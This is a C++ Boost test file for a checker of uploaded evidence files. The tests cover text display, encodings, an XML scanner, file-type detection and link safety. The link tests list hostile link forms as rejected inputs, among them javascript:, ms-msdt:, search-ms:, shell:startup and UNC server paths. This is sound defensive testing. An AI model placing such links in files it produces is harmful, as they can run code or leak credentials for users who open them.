    many[0] = "<</Type/Catalog/Pages 2 0 R>>";
    many[1] = "<</Type/Pages/Kids[]/Count 0>>";
    const auto never = [] { return false; };
    BOOST_TEST(judge_evidence_bytes(forge_pdf(many), "a.pdf", never).error().code == "evidence.cancelled");
    BOOST_TEST(judge_evidence_bytes(forge_office({}), "a.docx", never).error().code == "evidence.cancelled");
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(text_that_is_shown)

std::string shown(const std::string& bytes)
{
    return judge_evidence_bytes(bytes, "plan.txt").value().text;
}

BOOST_AUTO_TEST_CASE(control_characters_are_visible)
{
    BOOST_TEST(shown("a\tb\r\nc\n") == "a\tb\nc\n");
    BOOST_TEST(shown("a\x1B[31mb") == "a\\u{1B}[31mb");
    BOOST_TEST(shown("a\xE2\x80\xAE"
                     "b") == "a\\u{202E}b");
}
BOOST_AUTO_TEST_CASE(other_encodings_are_read)
{
    BOOST_TEST(shown("\xEF\xBB\xBFt\xC5\xB7") == "t\xC5\xB7");
    BOOST_TEST(shown("\xFF\xFEt\0\x77\x01\x3D\xD8\x00\xDE"s) == "t\xC5\xB7\xF0\x9F\x98\x80");
    BOOST_TEST(shown("\xFE\xFF\0t\x01\x77"s) == "t\xC5\xB7");
    BOOST_TEST(shown("caf\xE9") == "caf\xC3\xA9");
}
BOOST_AUTO_TEST_CASE(a_long_text_is_cut_between_characters)
{
    const auto judged_text =
        judge_evidence_bytes("a" + std::string(kMaxShownBytes - 2, 'b') + "\xC5\xB7 the rest", "plan.txt")
            .value();
    BOOST_TEST(judged_text.is_cut);
    BOOST_TEST(judged_text.text.size() == kMaxShownBytes - 1);
    BOOST_TEST(!judge_evidence_bytes("a", "plan.txt").value().is_cut);
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(links)

BOOST_AUTO_TEST_CASE(links_to_pages_and_to_ones_own_files_are_harmless)
{
    for (const std::string link : {"https://example.org/a?b=c:d",
                                   "HTTP://EXAMPLE.ORG",
                                   "mailto:a@b.org",
                                   "ftp://example.org",
                                   "tel:+44",
                                   "www.example.org",
                                   "www.example.org:8080/a",
                                   "page.html",
                                   "../a.docx",
                                   "#here",
                                   "",
                                   "C:\\plans\\a.docx",
                                   "file:///C:/plans/a.docx",
                                   "file:///home/a.pdf",
                                   "?a:b",
                                   "a/b:c",
                                   "(https://example.org/a)",
                                   "((http://example.org",
                                   "about:blank",
                                   "(a"}) {
        BOOST_TEST(is_harmless_link(link), link);
    }
}
BOOST_AUTO_TEST_CASE(links_that_start_something_are_not)
{
    for (const std::string link : {"javascript:x",
                                   " java\tscript:x",
                                   "vbscript:x",
                                   "data:text/html,x",
                                   "ms-msdt:/id",
                                   "ms-word:ofe|u|x",
                                   "search-ms:x",
                                   "\\\\server\\a",
                                   "//server/a",
                                   "/\\server\\a",
                                   "%5C%5Cserver%5Ca",
                                   "%2F%2fserver",
                                   "file://server/a",
                                   "file:////server/a",
                                   "file:///%5C%5Cserver",
                                   "file:\\\\server\\a",
                                   "shell:startup",
                                   "mhtml:http://x",
                                   "jar:http://x!/",
                                   "\x01javascript:x",
                                   "onenote:x",
                                   "(javascript:x)",
                                   "(\\\\server\\a)",
                                   " ( ms-msdt:/id)",
                                   "about:config",
                                   "about:blankx",
                                   "\"https://example.org",
                                   "tel2:x"}) {
        BOOST_TEST(!is_harmless_link(link), link);
    }
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(markup)

std::string tokens(const std::string& bytes)
{
    std::string out;
    MarkupScan scan{bytes};
    while (scan.next()) {
        switch (scan.token()) {
        case MarkupScan::Token::start:
            out += "<" + std::string{scan.name()};
            scan.each_attribute([&](std::string_view name, const std::string& value) {
                out += " " + std::string{name} + "=" + value;
            });
            out += ">";
            break;
        case MarkupScan::Token::end: out += "</" + std::string{scan.name()} + ">"; break;
        case MarkupScan::Token::text: out += scan.text(); break;
        }
    }
    return scan.is_bad() ? "bad" : out;
}

BOOST_AUTO_TEST_CASE(it_reads_what_xml_says)
{
    BOOST_TEST(tokens("<?xml version='1.0'?><!-- <b> --><a:b c:d = \"1>2\" "
                      "e='&quot;&#x41;'>x&amp;y<![CDATA[<&]]><f/></a:b >") ==
               "<b d=1>2 e=\"A>x&y<&<f></f></b>");
    BOOST_TEST(tokens("<br>unclosed") == "<br>unclosed");
}
BOOST_AUTO_TEST_CASE(an_attribute_that_is_asked_for_is_there_once)
{
    MarkupScan scan{"<a b='1' x:c='2' y:c='3' C='4'/>"};
    BOOST_REQUIRE(scan.next());
    BOOST_TEST(scan.attribute("b") == "1");
    BOOST_TEST(scan.attribute("d").empty());
    BOOST_TEST(!scan.is_bad());
    BOOST_TEST(scan.attribute("c") == "2");
    BOOST_TEST(scan.is_bad());
}
BOOST_AUTO_TEST_CASE(it_refuses_what_could_be_read_in_two_ways)
{
    for (const std::string bytes :
         {"<a", "<a b=c>", "<a b='<'>", "<a b>", "<a 'b'>", "< a>", "<!DOCTYPE a>", "<a>&b;</a>",
          "<a b='&b;'/>", "<a>&#0;</a>", "<a>&#x110000;</a>", "<a>&#x4g;</a>", "<!-- ", "<![CDATA[ ",
          "<?xml ", "<?xml encoding='UTF-16'?><a/>", "<a>\x01</a>", "<a b='c' d e='f'>"}) {
        BOOST_TEST(tokens(bytes) == "bad", bytes);
    }
}

BOOST_AUTO_TEST_SUITE_END()

BOOST_AUTO_TEST_SUITE(file_types)

BOOST_AUTO_TEST_CASE(what_is_active_for_the_rule_is_active_for_the_editor)
{
    for (const std::string name :
         {"a.exe", "a.DOCM", "a.html", "a.svg", "a.one", "a.exe.", "a.exe ", "b/a.settingcontent-ms"}) {
        BOOST_TEST((file_type_of(name).kind == FileKind::active), name);
        BOOST_TEST(!judge_evidence_name(name), name);
    }
    for (const std::string name : {"a.pdf", "a.docx", "a.xlsx", "a.pptx", "a.png", "a.jpg", "a.jpeg", "a.gif",
                                   "a.webp", "a.txt", "a.csv", "a.md"}) {
        BOOST_TEST(
            (file_type_of(name).kind != FileKind::active && file_type_of(name).kind != FileKind::other),
            name);
        BOOST_TEST(judge_evidence_name(name).has_value(), name);
    }
}
BOOST_AUTO_TEST_CASE(each_type_is_found_by_its_extension)
{
    BOOST_TEST(file_type_of("evidence/plan.PDF").label == "PDF document");
    BOOST_TEST(file_type_of("evidence/plan.docm").label == "Program, script or macros");
    BOOST_TEST(file_type_of("evidence.pdf/plan").label == "Other file");
    BOOST_TEST(file_type_of("evidence/plan.").label == "Other file");
    BOOST_TEST(file_type_of("7.7z").label == "Archive");
    BOOST_TEST(file_type_of("a.zip").media_type == "application/zip");
    BOOST_TEST(file_type_of("a.accde").label == "Program, script or macros"); // first and last of its list
    BOOST_TEST(file_type_of("a.zsh").label == "Program, script or macros");
    BOOST_TEST(media_type_fits("Text/CSV; charset=utf-8", file_type_of("a.csv")));
    BOOST_TEST(media_type_fits("application/vnd.ms-excel", file_type_of("a.csv")));
    BOOST_TEST(!media_type_fits("application/pdf", file_type_of("a.csv")));
    BOOST_TEST(media_type_fits("anything", file_type_of("a.unknown")));
}

BOOST_AUTO_TEST_SUITE_END()
